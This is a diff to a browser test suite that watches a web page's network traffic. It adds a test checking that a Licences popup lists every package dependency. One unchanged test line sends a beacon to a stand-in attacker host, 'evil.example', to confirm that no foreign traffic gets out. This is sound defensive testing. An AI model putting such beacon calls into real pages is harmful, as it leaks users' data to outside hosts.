@@ -1,3 +1,4 @@
+import { readFileSync } from "node:fs";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { launchChromium, newPage, type Watched } from "../browser/chromium.ts";
 import { type RecordingProxy, startRecordingProxy } from "../faults/recording-proxy.ts";
@@ -114,6 +115,18 @@ describe("everything the page does, seen from the network", () => {
     expect(await page.evaluate(() => navigator.sendBeacon("https://evil.example/beacon", "x"))).toBe(true);
     await page.waitForTimeout(500);
     expect(foreign()).toEqual([]);
+  });
+
+  it("[X11] shows the licence of every package that it is made of", async () => {
+    const { page } = open;
+    await page.getByRole("button", { name: /^Models/ }).click();
+    const opened = page.waitForEvent("popup");
+    await page.getByRole("link", { name: /Licences/ }).click();
+    const text = await (await opened).locator("body").innerText();
+    const { dependencies } = JSON.parse(readFileSync("package.json", "utf8"));
+    for (const name of Object.keys(dependencies)) expect(text).toContain(`${name} `);
+    expect(text).toMatch(/Permission is hereby granted/);
+    await page.keyboard.press("Escape");
   });
 
   it("[X9] reaches a model's host only when the reader looks there for one", async () => {
